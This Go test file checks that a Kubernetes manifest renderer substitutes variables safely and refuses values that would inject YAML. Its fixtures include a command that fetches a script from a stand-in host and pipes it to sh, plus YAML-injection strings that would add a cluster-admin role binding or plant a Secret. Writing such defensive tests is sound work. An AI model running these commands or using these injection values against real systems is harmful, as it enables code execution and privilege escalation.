package render

import (
	"fmt"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// slots is a manifest that uses ${v} in every kind of place: a plain value,
// a quoted value, part of a value, a block scalar and a key.
const slots = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: app
  namespace: default
  labels:
    ${v}: key
spec:
  replicas: ${n}
  template:
    metadata:
      annotations:
        quoted: "${v}"
        single: '${v}'
        part: "prefix-${v}-suffix"
        block: |
          ${v}
    spec:
      containers:
        - name: app
          image: example.org/app
          args: ["--flag=${v}"]
`

func renderSlots(t *testing.T, plain string, vars map[string]string) (*Result, error) {
	t.Helper()
	manifest := slots
	if plain != "" {
		manifest += "          env:\n            - name: PLAIN\n              value: " + plain + "\n"
	}
	return Render(repoWith(map[string]string{"kubernetes/base/cm.yaml": manifest}), assignment("test", vars))
}

func annotations(t *testing.T, r *Result) map[string]any {
	t.Helper()
	spec := find(t, r, "Deployment", "default", "app")["spec"].(map[string]any)
	return spec["template"].(map[string]any)["metadata"].(map[string]any)["annotations"].(map[string]any)
}

func TestSubstitutionTypesAPlainScalarAsYAMLDoes(t *testing.T) {
	cases := map[string]struct {
		value string
		want  any
	}{
		"integer":      {"3", int64(3)},
		"float":        {"0.5", 0.5},
		"boolean":      {"true", true},
		"null":         {"", nil},
		"string":       {"eu-central-1", "eu-central-1"},
		"command text": {"$(curl evil.example.org | sh)", "$(curl evil.example.org | sh)"},
		"apostrophe":   {"it's", "it's"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			r, err := renderSlots(t, "${p}", map[string]string{"v": "x", "n": "2", "p": tc.value})
			require.NoError(t, err)
			spec := find(t, r, "Deployment", "default", "app")["spec"].(map[string]any)
			assert.Equal(t, int64(2), spec["replicas"], "replicas: ${n} stays an integer")
			container := spec["template"].(map[string]any)["spec"].(map[string]any)["containers"].([]any)[0].(map[string]any)
			assert.Equal(t, tc.want, container["env"].([]any)[0].(map[string]any)["value"])
		})
	}
}

// hostileValues are values that, substituted into YAML text, would add
// keys, objects or documents, or break out of the scalar they are put in.
var hostileValues = map[string]string{
	"newline and an indented key":  "v\n  injected: yes",
	"newline and a top-level key":  "v\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin",
	"document separator":           "v\n---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: planted",
	"flow map":                     "{evil: 1}",
	"flow list":                    "[a, b]",
	"anchor":                       "&anchor v",
	"alias":                        "*anchor",
	"tag":                          "!!map {}",
	"template delimiters":          "}}{{ .Evil }}",
	"double quotes":                `"v" injected: yes`,
	"single quotes":                `'v'`,
	"backticks":                    "`id`",
	"comment":                      "v # hidden",
	"mapping":                      "a: b",
	"sequence":                     "- a",
	"leading space and a key":      " x\n y: z",
	"command substitution, 2 line": "$(id)\n$(whoami)",
}

func TestHostileValuesStayOneString(t *testing.T) {
	benign, err := renderSlots(t, "", map[string]string{"v": "benign", "n": "1"})
	require.NoError(t, err)
	values := map[string]string{"1 MiB": strings.Repeat("x", 1<<20)}
	for name, v := range hostileValues {
		values[name] = v
	}
	for name, v := range values {
		t.Run(name, func(t *testing.T) {
			r, err := renderSlots(t, "", map[string]string{"v": v, "n": "1"})
			require.NoError(t, err, "quoted, block and partial places take any value as a string")
			require.Len(t, r.Objects, len(benign.Objects), "no object added")
			got := annotations(t, r)
			assert.Equal(t, v, got["quoted"])
			assert.Equal(t, v, got["single"])
			assert.Equal(t, "prefix-"+v+"-suffix", got["part"])
			assert.Equal(t, v+"\n", got["block"])
			assert.ElementsMatch(t, keys(annotations(t, benign)), keys(got), "no annotation added")
			deployment := find(t, r, "Deployment", "default", "app")
			assert.ElementsMatch(t, keys(find(t, benign, "Deployment", "default", "app")), keys(deployment), "no top-level field added")
			labels := deployment["metadata"].(map[string]any)["labels"].(map[string]any)
			assert.Equal(t, "key", labels[v], "a key takes the value as one string")
			args := deployment["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["containers"].([]any)[0].(map[string]any)["args"]
			assert.Equal(t, []any{"--flag=" + v}, args)
		})
	}
}

func TestHostileValuesInAPlainScalarAreRefusedNamingTheItem(t *testing.T) {
	for name, v := range hostileValues {
		for _, plain := range []string{"${p}", "prefix-${p}"} {
			t.Run(name+" in "+plain, func(t *testing.T) {
				r, err := renderSlots(t, plain, map[string]string{"v": "x", "n": "1", "p": v})
				require.Error(t, err)
				assert.Nil(t, r, "nothing of the render is returned")
				var e *Error
				require.ErrorAs(t, err, &e)
				assert.Equal(t, "kubernetes/base/cm.yaml", e.File, "the error names the file that uses the item")
				assert.Equal(t, 25, e.Line)
				assert.Contains(t, e.Reason, "Deployment default/app: the value of p is not a single YAML scalar")
			})
		}
	}
}

func TestAVariableInAValueIsNotSubstitutedAgain(t *testing.T) {
	r, err := renderSlots(t, "${p}", map[string]string{"v": "${n}", "n": "1", "p": "x"})
	require.NoError(t, err)
	assert.Equal(t, "${n}", annotations(t, r)["quoted"])
}

func TestPlainScalarText(t *testing.T) {
	for text, want := range map[string]bool{
		"": true, "a": true, "a b": true, "1": true, "a:b": true, "http://x": true, "$(id)": true,
		"a: b": false, "a\nb": false, "a #c": false, "{a}": false, "[a]": false, "&a a": false, "*a": false,
		"!!str a": false, `"a"`: false, "'a'": false, "- a": false, "---": false, " a": false, "a ": false, "|\n a": false,
	} {
		assert.Equal(t, want, plainScalar(text), fmt.Sprintf("%q", text))
	}
}

func keys(m map[string]any) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

func TestARendererSharesTheBuildNotTheSubstitution(t *testing.T) {
	repo := repoWith(nil)
	r := NewRenderer(repo)
	zones := []string{"a.example.org", "b.example.org", "c.example.org", "d.example.org"}
	results := make([]*Result, len(zones))
	var wg sync.WaitGroup
	for i, zone := range zones {
		wg.Go(func() {
			var err error
			results[i], err = r.Render(assignment("test", map[string]string{"zone": zone}))
			assert.NoError(t, err)
		})
	}
	wg.Wait()
	for i, zone := range zones {
		require.NotNil(t, results[i])
		assert.Equal(t, zone, find(t, results[i], "ConfigMap", "default", "settings")["data"].(map[string]any)["zone"],
			"each cluster gets its own values, not another's")
	}
	assert.Len(t, r.builds, 1, "one build for one environment")
	alone, err := Render(repo, assignment("test", map[string]string{"zone": "a.example.org"}))
	require.NoError(t, err)
	assert.Equal(t, alone.Objects, results[0].Objects, "a shared build renders what a render of its own does")
}
